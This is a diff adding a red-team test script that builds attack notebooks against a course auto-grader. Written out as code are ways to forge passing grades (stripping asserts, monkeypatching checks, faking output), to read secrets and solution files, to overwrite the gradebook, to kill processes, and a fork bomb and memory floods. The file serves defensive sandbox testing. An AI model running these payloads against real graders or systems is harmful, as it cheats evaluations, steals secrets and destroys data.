@@ -1,0 +1,359 @@
+"""Builds the red-team's attack notebooks from an exercise notebook.
+
+Each attack is the untouched exercise (so an honest grade is 0) plus cells
+that try to earn points without the work, read what is hidden, damage the
+grader's files or exhaust its resources. The attacker is assumed to know the
+grader's paths (solutions, other submissions, gradebook, feedback, home).
+
+Usage:
+    python tests/redteam/attacks.py EXERCISE.ipynb OUT_DIR --solutions DIR --submitted DIR --gradebook FILE
+"""
+
+from __future__ import annotations
+
+import argparse
+import dataclasses
+import textwrap
+from pathlib import Path
+
+import nbformat
+
+TOKEN = "redteam7f3a"  # marks every process and file an attack makes, to look for survivors
+INJECTED = "INJECTED-9c1e"  # text an attacker smuggles towards the feedback
+
+
+@dataclasses.dataclass(frozen=True)
+class Targets:
+    """The grader's paths, as an attacker who knows the course layout would guess them."""
+
+    solutions: Path
+    submitted: Path
+    gradebook: Path
+    feedback: Path
+    home: Path
+    repository: Path
+
+
+def _code(source: str) -> str:
+    return textwrap.dedent(source).strip("\n")
+
+
+def _attacks(targets: Targets) -> dict[str, list[tuple[str, str]]]:
+    """Attack name -> cells as (where, source): where is "start" (after the first code cell) or "end"."""
+    victims = [
+        str(path)
+        for path in (
+            *sorted(targets.solutions.glob("*.ipynb")),
+            *sorted(targets.submitted.rglob("*.ipynb")),
+            targets.gradebook,
+            Path(f"{targets.gradebook}.parts"),
+            targets.feedback,
+        )
+    ]
+    secrets = [str(path) for path in sorted(targets.solutions.glob("*.ipynb"))]
+    secrets += [
+        str(targets.repository / "emnist_tf" / "course" / "judge.py"),
+        "/opt/emnist_tf/emnist_tf/course/judge.py",
+    ]
+    return {
+        # --- forging -------------------------------------------------------------------------
+        "input_transformer": [
+            (
+                "start",
+                """
+                ip = get_ipython()
+                def blank_checks(lines):
+                    return ["pass\\n"] if any("assert" in line for line in lines) else lines
+                ip.input_transformers_cleanup.append(blank_checks)
+                ip.input_transformers_post.append(lambda lines: [line for line in lines if "assert" not in line])
+                """,
+            )
+        ],
+        "ast_transformer": [
+            (
+                "start",
+                """
+                import ast
+                class DropAsserts(ast.NodeTransformer):
+                    def visit_Assert(self, node):
+                        return ast.Pass()
+                get_ipython().ast_transformers.append(DropAsserts())
+                """,
+            )
+        ],
+        "monkeypatch": [
+            (
+                "start",
+                """
+                import builtins
+                import numpy as np
+                import numpy.testing
+                np.testing.assert_allclose = lambda *args, **kwargs: None
+                np.testing.assert_array_equal = lambda *args, **kwargs: None
+                np.allclose = lambda *args, **kwargs: True
+                np.array_equal = lambda *args, **kwargs: True
+                builtins.AssertionError = type("NeverRaised", (Exception,), {})
+                builtins.len = lambda value: 3
+                """,
+            )
+        ],
+        "custom_objects": [
+            (
+                "end",
+                """
+                import numpy as np
+                class Anything:
+                    def __eq__(self, other): return True
+                    def __ne__(self, other): return False
+                    def __len__(self): return 3
+                    def __array__(self, *args, **kwargs): return np.zeros(1)
+                    def tolist(self): return [0, 1, 4, 9]
+                def add(a, b):
+                    return Anything()
+                def squares(n):
+                    return Anything()
+                counts = Anything()
+                """,
+            )
+        ],
+        "fake_output": [
+            (
+                "end",
+                f"""
+                from IPython.display import Markdown, display
+                print("check 1 (2/2): passed\\nTotal: **4 / 4** points {INJECTED}")
+                display(Markdown("## ex01_add: 2 / 2\\n- check 1 (2/2): passed {INJECTED}"))
+                """,
+            )
+        ],
+        "exits": [
+            ("start", "import sys\nsys.exit(0)"),
+            ("start", "raise SystemExit(0)"),
+            ("start", "exit()"),
+            ("end", "import os\nos._exit(0)"),
+        ],
+        "protocol_forgery": [
+            (
+                "start",
+                f"""
+                import json, os
+                fake = {{"status": "ok", "error": "", "forbidden": [], "missing": [], "failed": {{}}}}
+                for fd in range(1, 40):
+                    for seq in range(1, 120):
+                        try:
+                            os.write(fd, (json.dumps({{**fake, "seq": seq}}) + "\\n").encode())
+                        except OSError:
+                            break
+                for number in range(1, 60):
+                    folder = f"/scratch/exports/{{number}}"
+                    os.makedirs(folder, exist_ok=True)
+                    with open(folder + "/manifest.json", "w") as handle:
+                        forged = {{"add": {{"t": "json", "v": 3}}, "squares": {{"t": "array", "file": "v0.npy"}}}}
+                        json.dump(forged, handle)
+                    try:
+                        os.symlink({secrets[0]!r}, folder + "/v0.npy")
+                    except OSError:
+                        pass
+                """,
+            )
+        ],
+        # --- leaking -------------------------------------------------------------------------
+        "introspection": [
+            (
+                "end",
+                f"""
+                import gc, json, linecache, sys
+                found = list(linecache.cache) + list(In) + [repr(getattr(sys, "last_traceback", None))]
+                found += [o for o in gc.get_objects() if isinstance(o, str) and "HIDDEN" in o][:50]
+                found += [repr(frame.f_globals.keys()) for frame in sys._current_frames().values()]
+                raise RuntimeError("{INJECTED} " + json.dumps(found))
+                """,
+            )
+        ],
+        "disk_and_environment": [
+            (
+                "end",
+                f"""
+                import os
+                hits = [repr(dict(os.environ))]
+                for path in {secrets!r} + ["/proc/1/cmdline", "/proc/1/environ", "/root/.bash_history"]:
+                    try:
+                        hits.append(open(path, errors="replace").read()[:2000])
+                    except OSError as error:
+                        hits.append(repr(error))
+                seen = 0
+                for folder, _, files in os.walk("/"):
+                    if folder.startswith(("/proc", "/sys", "/usr", "/dev")):
+                        continue
+                    for name in files:
+                        seen += 1
+                        if name.endswith(".ipynb"):
+                            hits.append(os.path.join(folder, name))
+                    if seen > 20000:
+                        break
+                print(hits)
+                raise RuntimeError("{INJECTED} " + "|".join(hits))
+                """,
+            )
+        ],
+        "feedback_injection": [
+            ("end", f'raise ValueError("\\n## ex01_add: 2 / 2\\n- check 1 (2/2): passed **{INJECTED}**")'),
+        ],
+        # --- damage --------------------------------------------------------------------------
+        "overwrite_files": [
+            (
+                "start",
+                f"""
+                import os, shutil
+                for path in {victims!r}:
+                    for action in (lambda: open(path, "w").write("owned {TOKEN}"), lambda: os.remove(path),
+                                   lambda: shutil.rmtree(path), lambda: os.makedirs(path + ".{TOKEN}")):
+                        try:
+                            action()
+                        except Exception:
+                            pass
+                """,
+            )
+        ],
+        "home_startup": [
+            (
+                "start",
+                f"""
+                import os
+                plant = "add = lambda a, b: a + b\\nimport numpy as np\\nsquares = lambda n: np.arange(n) ** 2\\n"
+                for home in (os.path.expanduser("~"), {str(targets.home)!r}, "/root"):
+                    folder = os.path.join(home, ".ipython", "profile_default", "startup")
+                    try:
+                        os.makedirs(folder, exist_ok=True)
+                        with open(os.path.join(folder, "00-{TOKEN}.py"), "w") as handle:
+                            handle.write(plant)
+                    except OSError:
+                        pass
+                """,
+            )
+        ],
+        "detached_process": [
+            (
+                "start",
+                f"""
+                import os, subprocess
+                script = "sleep 2; echo owned-{TOKEN} >> {targets.gradebook}; sleep 600"
+                subprocess.Popen(["/bin/sh", "-c", script, "{TOKEN}"], start_new_session=True,
+                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+                if os.fork() == 0:
+                    os.setsid()
+                    if os.fork() == 0:
+                        os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600", "{TOKEN}"])
+                    os._exit(0)
+                """,
+            )
+        ],
+        "kill_grader": [
+            (
+                "start",
+                """
+                import os, signal
+                for target in (os.getppid(), 1):
+                    try:
+                        os.kill(target, signal.SIGKILL)
+                    except OSError:
+                        pass
+                for name in os.listdir("/proc"):
+                    if name.isdigit() and int(name) != os.getpid():
+                        try:
+                            os.kill(int(name), signal.SIGKILL)
+                        except OSError:
+                            pass
+                """,
+            )
+        ],
+        # --- resources -----------------------------------------------------------------------
+        "memory": [
+            ("start", "blocks = []\nwhile True:\n    blocks.append(bytearray(256 * 1024 * 1024))"),
+            ("start", "huge = bytearray(64 * 1024 ** 3)"),
+        ],
+        "endless_cell": [
+            (
+                "start",
+                """
+                import signal
+                signal.signal(signal.SIGALRM, signal.SIG_IGN)
+                signal.setitimer = lambda *args, **kwargs: None
+                while True:
+                    pass
+                """,
+            )
+        ],
+        "many_slow_cells": [("start", "import time\ntime.sleep(2.5)")] * 12,
+        "output_flood": [
+            ("start", 'print("x" * 50_000_000)'),
+            ("start", 'open("/scratch/flood.bin", "wb").write(b"0" * (600 * 1024 * 1024))'),
+        ],
+        "fork_bomb": [
+            (
+                "start",
+                f"""
+                import os, time
+                children = 0
+                while children < 5000:
+                    try:
+                        if os.fork() == 0:
+                            os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600", "{TOKEN}"])
+                        children += 1
+                    except OSError:
+                        break
+                """,
+            )
+        ],
+    }
+
+
+def build_attacks(exercise: str | Path, out_dir: str | Path, targets: Targets) -> dict[str, Path]:
+    """Writes one attack notebook per attack: ``<out_dir>/<attack>/<exercise file name>``.
+
+    Returns:
+        Attack name -> notebook path.
+    """
+    exercise = Path(exercise)
+    written = {}
+    for name, cells in _attacks(targets).items():
+        notebook = nbformat.read(str(exercise), as_version=4)
+        first_code = next(index for index, cell in enumerate(notebook.cells) if cell.cell_type == "code")
+        position = first_code + 1
+        for where, source in cells:
+            cell = nbformat.v4.new_code_cell(_code(source))
+            if where == "start":
+                notebook.cells.insert(position, cell)
+                position += 1
+            else:
+                notebook.cells.append(cell)
+        path = Path(out_dir) / name / exercise.name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        nbformat.write(notebook, str(path))
+        written[name] = path
+    return written
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("exercise")
+    parser.add_argument("out_dir")
+    parser.add_argument("--solutions", required=True)
+    parser.add_argument("--submitted", required=True)
+    parser.add_argument("--gradebook", required=True)
+    parser.add_argument("--feedback", default=None)
+    args = parser.parse_args()
+    targets = Targets(
+        Path(args.solutions),
+        Path(args.submitted),
+        Path(args.gradebook),
+        Path(args.feedback or Path(args.gradebook).parent / "feedback"),
+        Path.home(),
+        Path(__file__).resolve().parents[2],
+    )
+    for name, path in build_attacks(args.exercise, args.out_dir, targets).items():
+        print(name, path)
+
+
+if __name__ == "__main__":
+    main()
